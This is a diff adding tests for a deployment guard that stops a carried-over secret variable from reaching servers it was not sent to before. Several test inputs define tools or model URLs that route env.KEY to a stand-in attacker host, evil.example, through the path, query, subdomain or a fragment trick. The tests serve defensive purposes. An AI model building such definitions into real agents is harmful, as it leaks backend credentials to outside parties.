@@ -1,0 +1,278 @@
+import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { newDestinations } from '../../src/deployments/destinations.ts';
+import { agent, startApp, type Tenant, type TestApp } from '../helpers/app.ts';
+import { type McpSite, startMcp } from '../helpers/mcp.ts';
+
+const KEY = 'a secret of the backend';
+
+/** A definition that calls a URL with a header. */
+const calling = (url: string, header = 'Bearer {{ env.KEY }}') =>
+  agent(
+    `tools shop { capability find "Find" { get "${url}" { header "Authorization" "${header}" } } }`,
+  );
+
+const mcp = (url: string, header = '{{ env.KEY }}') =>
+  agent(`tools shop mcp ${url} { header "X-Key" "${header}" }`);
+
+const model = (settings: string) => agent(`model "m" { api_key env.KEY ${settings} }`);
+
+/** What a deploy after another one is refused for, where the value of KEY is carried over. */
+function refusals(
+  before: string,
+  source: string,
+  { was = {}, now = {} }: { was?: Record<string, string>; now?: Record<string, string> } = {},
+): string[] {
+  const variables = { KEY, ...was };
+  return newDestinations(
+    { source, variables: { ...variables, ...now } },
+    { source: before, variables },
+    new Set(Object.keys(now)),
+  ).map(({ message }) => message);
+}
+
+const refused = (server: string, name = 'KEY') => [
+  `env.${name} was not sent to ${server} before, send its value again to allow this`,
+];
+
+describe('a variable that is carried over', () => {
+  const shop = calling('https://shop.example/orders');
+  const whole = mcp('env.URL');
+  const byHost = calling('https://{{ env.HOST }}.example/{{ env.KEY }}', 'x');
+
+  test.each<[string, string, string, Parameters<typeof refusals>[2], string[]]>([
+    ['another path', shop, calling('https://SHOP.example:443/carts?a=b'), {}, []],
+    ['another host', shop, calling('https://evil.example/'), {}, refused('https://evil.example')],
+    [
+      'another port',
+      shop,
+      calling('https://shop.example:8443/'),
+      {},
+      refused('https://shop.example:8443'),
+    ],
+    [
+      'without encryption',
+      shop,
+      calling('http://shop.example/'),
+      {},
+      refused('http://shop.example'),
+    ],
+    [
+      'in a path',
+      shop,
+      calling('https://evil.example/{{ env.KEY }}', 'x'),
+      {},
+      refused('https://evil.example'),
+    ],
+    [
+      'in a query',
+      shop,
+      calling('https://evil.example?k={{env.KEY}}', 'x'),
+      {},
+      refused('https://evil.example'),
+    ],
+    [
+      'in a host',
+      shop,
+      calling('https://{{ env.KEY }}.evil.example/', 'x'),
+      {},
+      refused('https://{{ env.KEY }}.evil.example'),
+    ],
+    [
+      'by a fragment',
+      shop,
+      calling('https://evil.example#shop.example'),
+      {},
+      refused('https://evil.example'),
+    ],
+    ['where none was called', agent(), shop, {}, refused('https://shop.example')],
+    [
+      'another value at a new host',
+      shop,
+      calling('https://evil.example/', '{{ env.NEW }}'),
+      { now: { NEW: 'new' } },
+      [],
+    ],
+    ['with its value', shop, calling('https://evil.example/'), { now: { KEY: 'new' } }, []],
+    [
+      'from a tool to a server of tools',
+      shop,
+      mcp('"https://evil.example/mcp"'),
+      {},
+      refused('https://evil.example'),
+    ],
+    ['from a tool to the same server', shop, mcp('"https://shop.example/mcp"'), {}, []],
+    [
+      'to another address of a variable',
+      whole,
+      whole,
+      { was: { URL: 'https://a.example/1' }, now: { URL: 'https://b.example/1' } },
+      refused('{{ env.URL }}'),
+    ],
+    [
+      'to the same address of a variable',
+      whole,
+      whole,
+      { was: { URL: 'https://a.example/1' }, now: { URL: 'https://a.example/2' } },
+      [],
+    ],
+    [
+      'to an address that becomes literal',
+      whole,
+      mcp('"https://a.example/"'),
+      { was: { URL: 'https://a.example/1' } },
+      [],
+    ],
+    [
+      'to another host of a variable',
+      byHost,
+      byHost,
+      { was: { HOST: 'a' }, now: { HOST: 'b' } },
+      refused('https://{{ env.HOST }}.example'),
+    ],
+    [
+      'to a default host',
+      byHost,
+      byHost.replace('env.HOST', 'env.NONE ?? \\"b\\"'),
+      { was: { HOST: 'a' } },
+      refused('https://{{ env.NONE }}.example'),
+    ],
+    [
+      'to a default host that is the same',
+      byHost,
+      byHost.replace('env.HOST', 'env.NONE ?? \\"a\\"'),
+      { was: { HOST: 'a' } },
+      [],
+    ],
+    [
+      'to another model',
+      model(''),
+      model('base_url "https://evil.example/v1"'),
+      {},
+      refused('https://evil.example'),
+    ],
+    ['to the same model', model(''), model('base_url "https://api.openai.com/v2"'), {}, []],
+    ['to the standard model', shop, model(''), {}, refused('https://api.openai.com')],
+    [
+      'to another model of a variable',
+      model('base_url env.BASE'),
+      model('base_url env.BASE'),
+      { was: { BASE: 'https://a.example' }, now: { BASE: 'https://b.example' } },
+      refused('{{ env.BASE }}'),
+    ],
+    ['to Telegram', shop, agent('channel telegram { token env.KEY }'), {}, []],
+    [
+      'from a source that is not valid any more',
+      'agentlang 4',
+      shop,
+      {},
+      refused('https://shop.example'),
+    ],
+  ])('is held to its servers: %s', (_what, before, source, variables, expected) => {
+    expect(refusals(before, source, variables)).toEqual(expected);
+  });
+
+  test('is named once for each server, where the source first has it', () => {
+    const get = (name: string, host: string) =>
+      `capability ${name} "Get" { get "https://${host}/{{ env.KEY }}" { header "A" "{{ env.KEY }}" } }`;
+    const source = agent(
+      `tools shop {\n    ${get('a', 'a.example')}\n    ${get('b', 'b.example')}\n  }`,
+    );
+    const before = { source: agent(), variables: { KEY } };
+    const columnIn = (line: number) => (source.split('\n')[line - 1] ?? '').indexOf('env.KEY') + 1;
+    const found = newDestinations({ source, variables: { KEY } }, before, new Set());
+    expect(found).toMatchObject([
+      { line: 6, column: columnIn(6), code: 'env-new-destination', severity: 'ERROR' },
+      { line: 7, column: columnIn(7) },
+    ]);
+  });
+
+  test('shows no value, and nothing that looks like a secret', () => {
+    const source = calling('https://sk-abcdefghij0123456789.example/');
+    expect(refusals(agent(), source)).toEqual(refused('this server'));
+  });
+});
+
+describe('a deploy', () => {
+  let site: McpSite;
+  let app: TestApp;
+  let tenant: Tenant;
+  beforeAll(async () => {
+    site = await startMcp();
+    app = await startApp({ allowedHosts: [site.host] });
+    tenant = await app.tenant();
+  });
+  afterAll(() => site.close());
+
+  type Reply = { status: string; deployment_id: string; parse_errors: string[] };
+  const post = async (path: string, body: object): Promise<Reply> => {
+    const response = await fetch(`${app.url}/v1/bots/${path}`, {
+      method: 'POST',
+      headers: { ...tenant.headers, 'content-type': 'application/json' },
+      body: JSON.stringify(body),
+    });
+    expect(response.status).toBe(200);
+    return (await response.json()) as Reply;
+  };
+  const env_vars = { KEY };
+  const good = calling('https://shop.example/');
+  const evil = calling('https://evil.example/');
+  const activeSource = async (bot: string) => {
+    const { data } = await tenant.graphql(
+      'query ($id: ID!) { bot(id: $id) { activeDeployment { source } } }',
+      { id: bot },
+    );
+    return data.bot.activeDeployment.source;
+  };
+
+  test('fails where a carried-over variable would go to a new server, until it is sent again', async () => {
+    const bot = await tenant.bot(null);
+    await post(`${bot}/deploy`, { agentlang: good, env_vars });
+    const failed = await post(`${bot}/deploy`, { agentlang: evil });
+    expect(failed.status).toBe('failed');
+    expect(failed.parse_errors).toEqual([
+      `5:${(evil.split('\n')[4] ?? '').indexOf('env.KEY') + 1} env.KEY was not sent to https://evil.example before, send its value again to allow this [env-new-destination]`,
+    ]);
+    expect(await activeSource(bot)).toBe(good);
+    expect((await post(`${bot}/deploy`, { agentlang: good })).status).toBe('deployed');
+    expect((await post(`${bot}/deploy`, { agentlang: evil, env_vars })).status).toBe('deployed');
+    expect((await post(`${bot}/deploy`, { agentlang: evil })).status).toBe('deployed');
+  });
+
+  test('asks no new server of tools with it', async () => {
+    const bot = await tenant.bot(null);
+    await post(`${bot}/deploy`, { agentlang: good, env_vars });
+    const source = mcp(`"${site.url}"`);
+    expect((await post(`${bot}/deploy`, { agentlang: source })).status).toBe('failed');
+    expect(site.requests).toEqual([]);
+    expect((await post(`${bot}/deploy`, { agentlang: source, env_vars })).status).toBe('deployed');
+    expect(site.requests.length).toBeGreaterThan(0);
+  });
+
+  test('that ran may be rolled back to, and promoted, with the variables of then', async () => {
+    const bot = await tenant.bot(null);
+    const first = await post(`${bot}/deploy`, { agentlang: evil, env_vars });
+    await post(`${bot}/deploy`, { agentlang: good, env_vars });
+    expect((await post(`${bot}/deploy`, { agentlang: evil })).status).toBe('failed');
+    const back = await post(`${bot}/deployments/${first.deployment_id}/rollback`, {});
+    expect(back.status).toBe('deployed');
+    const staged = await post(`${bot}/deploy`, {
+      agentlang: good,
+      environment: 'staging',
+      env_vars,
+    });
+    const { data } = await tenant.graphql(
+      'mutation ($bot: ID!, $id: ID!) { promote(botId: $bot, deploymentId: $id) { status } }',
+      { bot, id: staged.deployment_id },
+    );
+    expect(data.promote).toEqual({ status: 'DEPLOYED' });
+  });
+
+  test('with errors of its own names them alone', async () => {
+    const bot = await tenant.bot(null);
+    await post(`${bot}/deploy`, { agentlang: good, env_vars });
+    const { parse_errors } = await post(`${bot}/deploy`, {
+      agentlang: evil.replace('description', 'descripton'),
+    });
+    expect(parse_errors).toEqual([expect.stringContaining('[unknown-setting]')]);
+  });
+});
